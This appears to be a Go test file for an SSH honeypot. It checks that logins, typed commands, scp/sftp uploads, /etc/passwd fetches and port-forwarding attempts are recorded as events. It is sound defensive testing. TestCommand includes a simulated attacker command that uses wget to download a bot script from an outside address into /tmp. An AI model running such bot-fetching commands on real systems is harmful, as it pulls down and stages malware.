package clienttest

import (
	"crypto/sha256"
	"encoding/hex"
	"math/rand/v2"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// open returns a house with one SSH pot, and a file of random bytes to bring.
func openSSH(t *testing.T, options string) *house {
	t.Helper()
	return open(t, "router", "ssh id=ssh "+options)
}

// payload writes a file of random bytes and returns its path and hash.
func (h *house) payload() (path, sum string) {
	h.t.Helper()
	r := rand.NewChaCha8([32]byte{1})
	b := make([]byte, 300_000)
	_, _ = r.Read(b)
	path = filepath.Join(h.dir, "payload")
	check(h.t, os.WriteFile(path, b, 0o755))
	s := sha256.Sum256(b)
	return path, hex.EncodeToString(s[:])
}

// TestPasswords: what a client types is at Core, refused or not.
func TestPasswords(t *testing.T) {
	h := openSSH(t, "accept=root:"+password)
	out, code := h.ssh("", "root@127.0.0.1", "exit 3")
	if code != 3 || out != "" {
		t.Errorf("%d %q", code, out)
	}
	list := h.events()
	h.want(list, "ssh.login.success", "ssh.command.input")
	if list[0].text("password") != password || list[1].text("input") != "exit 3" {
		t.Errorf("%v", list)
	}
	for _, method := range []string{"password", "keyboard-interactive"} {
		if out, code := h.ssh("", "-o", "PreferredAuthentications="+method, "-o", "NumberOfPasswordPrompts=2", "admin@127.0.0.1", "id"); code != 255 {
			t.Errorf("%d %q", code, out)
		}
		list := h.events()
		h.want(list, "ssh.login.failed", "ssh.login.failed")
		for _, e := range list {
			if e.text("username") != "admin" || e.text("password") != password {
				t.Errorf("%v", e)
			}
		}
	}
}

// TestKey: a key is refused, and recorded by the fingerprint that ssh-keygen
// shows.
func TestKey(t *testing.T) {
	h := openSSH(t, "accept=root:"+password)
	for _, kind := range []string{"ed25519", "rsa", "ecdsa"} {
		key := filepath.Join(h.dir, kind)
		if out, code := h.run("", "ssh-keygen", "-q", "-t", kind, "-N", "", "-f", key); code != 0 {
			t.Fatal(out)
		}
		print, _ := h.run("", "ssh-keygen", "-lf", key)
		if out, code := h.ssh("", "-o", "BatchMode=yes", "-i", key, "root@127.0.0.1", "id"); code != 255 {
			t.Errorf("%d %q", code, out)
		}
		list := h.events()
		h.want(list, "ssh.login.failed")
		if got := list[0].text("fingerprint"); got == "" || !strings.Contains(print, got) {
			t.Errorf("%v, ssh-keygen says %q", list, print)
		}
	}
}

// TestCommand: ssh host command, with a terminal and without.
func TestCommand(t *testing.T) {
	h := openSSH(t, "accept=any")
	out, code := h.ssh("", "root@127.0.0.1", "cd /tmp && wget http://203.0.113.7/bot.sh; echo $((6*7)); nosuch")
	if code != 127 || !strings.Contains(out, "\n42\n") || !strings.Contains(out, "nosuch: not found") {
		t.Errorf("%d %q", code, out)
	}
	list := h.events()
	h.want(list, "ssh.login.success", "ssh.command.input", "ssh.session.file_download", "ssh.command.failed")
	if list[2].text("url") != "http://203.0.113.7/bot.sh" {
		t.Errorf("%v", list[2])
	}
	out, code = h.ssh("uname\recho a\x7fb\rexit 5\r", "-tt", "root@127.0.0.1")
	if code != 5 || !strings.Contains(out, "# uname\r\nLinux\r\n# echo a\b \bb\r\nb\r\n# exit 5\r\n") {
		t.Errorf("%d %q", code, out)
	}
	list = h.events()
	h.want(list, "ssh.login.success", "ssh.command.input", "ssh.command.input", "ssh.command.input")
	if list[2].text("input") != "echo b" {
		t.Errorf("%v", list[2])
	}
}

// TestCopies: scp in both its protocols and sftp bring files that are hashed,
// and fetch the device's.
func TestCopies(t *testing.T) {
	h := openSSH(t, "accept=any")
	path, sum := h.payload()
	target := "root@127.0.0.1:"
	uploaded := func(name, how string) {
		t.Helper()
		for _, e := range h.events() {
			if e.EventType == "ssh.session.file_upload" {
				if e.text("shasum") != sum || e.text("filename") != name || e.text("cause") != how || e.text("size") != "300000" {
					t.Errorf("%v", e)
				}
				return
			}
		}
		t.Errorf("no upload of %s", name)
	}
	for _, c := range []struct{ flag, how string }{{"-s", "sftp"}, {"-O", "scp"}} {
		if out, code := h.run("", "scp", append(h.options("ssh"), c.flag, path, target+"/tmp/x"+c.how)...); code != 0 {
			t.Errorf("%s: %d %q", c.how, code, out)
		}
		uploaded("/tmp/x"+c.how, c.how)
		back := filepath.Join(h.dir, "passwd-"+c.how)
		if out, code := h.run("", "scp", append(h.options("ssh"), c.flag, target+"/etc/passwd", back)...); code != 0 {
			t.Errorf("%s back: %d %q", c.how, code, out)
		}
		if b, err := os.ReadFile(back); err != nil || !strings.HasPrefix(string(b), "root:") {
			t.Errorf("%q %v", b, err)
		}
		h.events()
	}
	batch := "cd /tmp\nput " + path + " y\nls -l\nmkdir d\nrename y d/z\nls d\nchmod 700 d/z\nrm d/z\nrmdir d\nls -l /etc/passwd\n"
	out, code := h.run(batch, "sftp", append(h.options("ssh"), "root@127.0.0.1")...)
	if code != 0 || !strings.Contains(out, "300000") || !strings.Contains(out, "d/z") || strings.Contains(out, "Couldn't") {
		t.Errorf("%d %s", code, out)
	}
	uploaded("/tmp/y", "sftp")
}

// TestForward: ssh -L connects to nothing, and what was sent is recorded.
func TestForward(t *testing.T) {
	h := openSSH(t, "accept=any")
	free, err := net.Listen("tcp", "127.0.0.1:0")
	check(t, err)
	local := free.Addr().String()
	free.Close()
	cmd := h.client("ssh", append(h.options("ssh"), "-N", "-o", "ExitOnForwardFailure=yes", "-L", local+":192.0.2.80:80", "root@127.0.0.1")...)
	check(t, cmd.Start())
	defer func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
	}()
	for h.ctx.Err() == nil { // until ssh listens
		if c, err := net.DialTimeout("tcp", local, time.Second); err == nil {
			c.Close()
			break
		}
	}
	out, code := h.run("", "curl", "-s", "-m", "30", "-A", "test", "http://"+local+"/wanted")
	if code == 0 || out != "" {
		t.Errorf("somebody answered: %d %q", code, out)
	}
	asked, said := 0, 0
	for _, e := range h.events() {
		switch e.EventType {
		case "ssh.direct-tcpip.request":
			asked++
			if e.text("target_host") != "192.0.2.80" || e.text("target_port") != "80" {
				t.Errorf("%v", e)
			}
		case "ssh.direct-tcpip.data":
			said++
			if !strings.HasPrefix(e.text("data"), "GET /wanted HTTP/1.1\r\n") {
				t.Errorf("%v", e)
			}
		}
	}
	if asked != 2 || said != 1 {
		t.Errorf("%d requests and %d with data", asked, said)
	}
}
